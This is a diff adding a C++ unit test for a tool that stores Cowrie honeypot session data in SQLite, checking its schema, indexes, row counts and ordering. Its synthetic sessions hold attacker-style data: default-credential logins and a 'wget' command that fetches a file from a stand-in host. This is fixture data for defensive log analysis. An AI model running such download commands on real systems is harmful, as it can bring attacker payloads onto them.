@@ -1,0 +1,181 @@
+// cowrie.sqlite as SqliteStore writes it, on a small synthetic run: the schema (tables, views
+// over the *_rows tables, indexes, schema_doc), the row counts per table and the commit.
+#include <gtest/gtest.h>
+#include <sqlite3.h>
+
+#include <filesystem>
+#include <set>
+
+#include "cb/analysis/basic_tables.hpp"
+#include "cb/output/outputs.hpp"
+#include "synthetic_sessions.hpp"
+
+namespace fs = std::filesystem;
+using cbtest::Spec;
+
+namespace {
+
+// Read-only access to a written database: one integer or text answer per query.
+class ReadDb {
+public:
+    explicit ReadDb(const std::string& path) {
+        EXPECT_EQ(sqlite3_open_v2(path.c_str(), &db_, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK) << path;
+    }
+    ~ReadDb() { sqlite3_close(db_); }
+    std::vector<std::string> column(const std::string& sql) const {
+        std::vector<std::string> out;
+        sqlite3_stmt* st = nullptr;
+        EXPECT_EQ(sqlite3_prepare_v2(db_, sql.c_str(), -1, &st, nullptr), SQLITE_OK) << sql << ": " << sqlite3_errmsg(db_);
+        while (st && sqlite3_step(st) == SQLITE_ROW) {
+            const unsigned char* t = sqlite3_column_text(st, 0);
+            out.emplace_back(t ? reinterpret_cast<const char*>(t) : "NULL");
+        }
+        sqlite3_finalize(st);
+        return out;
+    }
+    long long count(const std::string& sql) const {
+        const auto v = column(sql);
+        return v.empty() ? -1 : std::stoll(v[0]);
+    }
+
+private:
+    sqlite3* db_ = nullptr;
+};
+
+// The SQLite name of a result table: a name the relational part already uses gets _summary.
+std::string sql_name(const cb::Table& t) {
+    for (const char* taken : {"sessions", "logins", "commands", "downloads", "uploads", "tcpip", "ttylogs", "schema_doc"})
+        if (t.name == taken) return t.name + "_summary";
+    return t.name;
+}
+
+std::vector<Spec> small_run() {
+    Spec a;
+    a.session = "aaaaaaaaaaaa";
+    a.logins = {{"root", "123", false}, {"root", "toor", true}};
+    a.commands = {"uname -a", "wget http://198.51.100.1/x"};
+    a.downloads = {{"http://198.51.100.1/x", std::string(64, 'a')}};
+    a.tty_bytes = 100;
+    Spec b;
+    b.session = "bbbbbbbbbbbb";
+    b.sensor = "s2";
+    b.src_ip = "10.0.0.2";
+    b.start_s = 60;
+    b.logins = {{"admin", "admin", true}};
+    b.commands = {"id"};
+    b.uploads = {{"up.bin", std::string(64, 'b')}};
+    Spec c;
+    c.session = "cccccccccccc";
+    c.start_s = 30;
+    return {a, b, c};
+}
+
+class SqliteStoreTest : public ::testing::Test {
+protected:
+    void SetUp() override {
+        dir_ = fs::temp_directory_path() / ("cb-sqlite-test-" + std::to_string(::getpid()));
+        fs::create_directories(dir_);
+        path_ = (dir_ / "cowrie.sqlite").string();
+        corpus_ = cbtest::build(small_run());
+        std::sort(corpus_.sessions.begin(), corpus_.sessions.end(), cb::session_less);
+        cb::SqliteStore store(path_);
+        ASSERT_EQ(store.write_sessions(corpus_.sessions), "");
+        tables_ = cb::basic_tables(corpus_.sessions);
+        ASSERT_EQ(store.write_tables(tables_), "");
+        ASSERT_EQ(store.commit(), "");
+    }
+    void TearDown() override { fs::remove_all(dir_); }
+
+    fs::path dir_;
+    std::string path_;
+    cbtest::Corpus corpus_;
+    std::vector<cb::Table> tables_;
+};
+
+}  // namespace
+
+TEST_F(SqliteStoreTest, CommitRenamesTheTemporaryFile) {
+    EXPECT_TRUE(fs::exists(path_));
+    EXPECT_FALSE(fs::exists(path_ + ".tmp"));
+    EXPECT_EQ(ReadDb(path_).column("PRAGMA integrity_check"), std::vector<std::string>{"ok"});
+}
+
+TEST_F(SqliteStoreTest, SchemaHasTablesViewsAndIndexes) {
+    const ReadDb db(path_);
+    const auto names = [&](const char* type) {
+        const auto v = db.column(std::string("SELECT name FROM sqlite_master WHERE type='") + type + "' ORDER BY name");
+        return std::set<std::string>(v.begin(), v.end());
+    };
+    const auto tables = names("table"), views = names("view"), indexes = names("index");
+    for (const char* part : {"logins", "commands", "downloads", "uploads", "tcpip", "file_writes", "ttylogs"}) {
+        EXPECT_TRUE(tables.count(std::string(part) + "_rows")) << part;
+        EXPECT_TRUE(views.count(part)) << part;
+    }
+    EXPECT_TRUE(tables.count("sessions") && tables.count("schema_doc"));
+    for (const char* ix : {"sessions_key", "sessions_src_ip", "commands_input", "downloads_shasum"})
+        EXPECT_TRUE(indexes.count(ix)) << ix;
+    // every basic table is a SQLite table of its own, except file_writes (a view of the rows)
+    for (const cb::Table& t : tables_)
+        if (t.name != "file_writes") {
+            EXPECT_TRUE(tables.count(sql_name(t))) << t.name;
+        }
+    EXPECT_EQ(db.count("SELECT count(*) FROM pragma_index_list('sessions') WHERE \"unique\" = 1 AND name = 'sessions_key'"),
+              1);
+}
+
+TEST_F(SqliteStoreTest, RowCountsMatchTheSessions) {
+    const ReadDb db(path_);
+    EXPECT_EQ(db.count("SELECT count(*) FROM sessions"), 3);
+    EXPECT_EQ(db.count("SELECT count(*) FROM logins"), 3);
+    EXPECT_EQ(db.count("SELECT sum(success) FROM logins"), 2);
+    EXPECT_EQ(db.count("SELECT count(*) FROM commands"), 3);
+    EXPECT_EQ(db.count("SELECT count(*) FROM downloads WHERE status = 'ok'"), 1);
+    EXPECT_EQ(db.count("SELECT count(*) FROM uploads"), 1);
+    EXPECT_EQ(db.count("SELECT count(*) FROM ttylogs"), 1);
+    EXPECT_EQ(db.count("SELECT count(*) FROM tcpip"), 0);
+    EXPECT_EQ(db.count("SELECT count(DISTINCT sensor) FROM sessions"), 2);
+    for (const cb::Table& t : tables_)
+        if (t.name != "file_writes") {
+            EXPECT_EQ(db.count("SELECT count(*) FROM \"" + sql_name(t) + "\""), static_cast<long long>(t.rows.size()))
+                << t.name;
+        }
+}
+
+TEST_F(SqliteStoreTest, SidFollowsStartTimeAndPartsKeepTheirOrder) {
+    const ReadDb db(path_);
+    EXPECT_EQ(db.column("SELECT session FROM sessions ORDER BY sid"),
+              (std::vector<std::string>{"aaaaaaaaaaaa", "cccccccccccc", "bbbbbbbbbbbb"}));  // start 0, 30, 60
+    EXPECT_EQ(db.column("SELECT input FROM commands WHERE session = 'aaaaaaaaaaaa' ORDER BY seq"),
+              (std::vector<std::string>{"uname -a", "wget http://198.51.100.1/x"}));
+    EXPECT_EQ(db.column("SELECT password FROM logins WHERE session = 'aaaaaaaaaaaa' ORDER BY time"),
+              (std::vector<std::string>{"123", "toor"}));
+}
+
+TEST_F(SqliteStoreTest, SchemaDocDescribesTablesThatExist) {
+    const ReadDb db(path_);
+    EXPECT_GE(db.count("SELECT count(*) FROM schema_doc WHERE column_name = '' AND description <> ''"), 8);
+    // a documented column that is not in its table (or view) would be a drifted doc
+    for (const std::string& row : db.column("SELECT table_name || '.' || column_name FROM schema_doc WHERE column_name <> ''")) {
+        const auto dot = row.find('.');
+        const std::string table = row.substr(0, dot), column = row.substr(dot + 1);
+        EXPECT_EQ(db.count("SELECT count(*) FROM pragma_table_info('" + table + "') WHERE name = '" + column + "'"), 1)
+            << row;
+    }
+}
+
+TEST(SqliteStore, EmptyRunStillHasTheSchema) {
+    const fs::path dir = fs::temp_directory_path() / ("cb-sqlite-empty-" + std::to_string(::getpid()));
+    fs::create_directories(dir);
+    const std::string path = (dir / "cowrie.sqlite").string();
+    {
+        cb::SqliteStore store(path);
+        ASSERT_EQ(store.write_sessions({}), "");
+        ASSERT_EQ(store.write_tables(cb::basic_tables({})), "");
+        ASSERT_EQ(store.commit(), "");
+    }
+    const ReadDb db(path);
+    EXPECT_EQ(db.count("SELECT count(*) FROM sessions"), 0);
+    EXPECT_EQ(db.count("SELECT count(*) FROM commands"), 0);
+    EXPECT_GT(db.count("SELECT count(*) FROM schema_doc"), 0);
+    fs::remove_all(dir);
+}
